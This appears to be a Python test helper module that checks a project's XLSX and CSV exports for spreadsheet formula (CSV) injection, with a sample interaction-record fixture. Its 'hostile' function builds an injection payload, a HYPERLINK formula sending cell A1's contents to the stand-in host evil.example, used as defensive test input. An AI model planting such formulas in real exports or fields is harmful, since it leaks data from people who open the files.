"""Reading exported files back as a spreadsheet would, and the checks every export must
pass (issue 24): no formula cell in an XLSX, no CSV field a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from openpyxl import load_workbook

from dozvon.interactions.services import interaction_record

# what a spreadsheet reads as the start of a formula (OWASP "CSV injection")
LEADS = ("=", "+", "-", "@", "\t", "\r")
# a CSV number as Russian Excel reads it: -12, 1000,00, 0,25
CSV_NUMBER = re.compile(r"-?\d+(,\d+)?")


def hostile(lead: str, words: str = "жми") -> str:
    """A text that a spreadsheet would run when it is written as is."""
    return f'{lead}HYPERLINK("http://evil.example/?x="&A1;"{words}")'


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def xlsx_rows(content: bytes) -> list[list]:
    """The first sheet's rows, after checking that no sheet of the file holds a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"a formula in {name}"
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def csv_rows(content: bytes) -> list[list[str]]:
    """The rows of a CSV, after checking its BOM and that no field would be run: a field
    starting with a formula character is a (negative) number or escaped with `'`."""
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    for row in rows:
        for field in row:
            if field.startswith(LEADS):
                assert CSV_NUMBER.fullmatch(field), repr(field)
    return rows


def as_dicts(rows: list[list]) -> list[dict]:
    header, *rest = rows
    return [dict(zip(header, row, strict=True)) for row in rest]


def will_think_contact(world, subscription, comment: str, now):
    """SUB-3: the subscriber's call recorded on the desk with a "will think" contact and
    the operator's comment (what the registry exports)."""
    return interaction_record(
        project=world.project,
        actor=world.operator,
        phone="+79161234567",
        line="first",
        subject="недоволен",
        comment=comment,
        subscription=subscription.pk,
        outcome="will_think",
        now=now,
    )
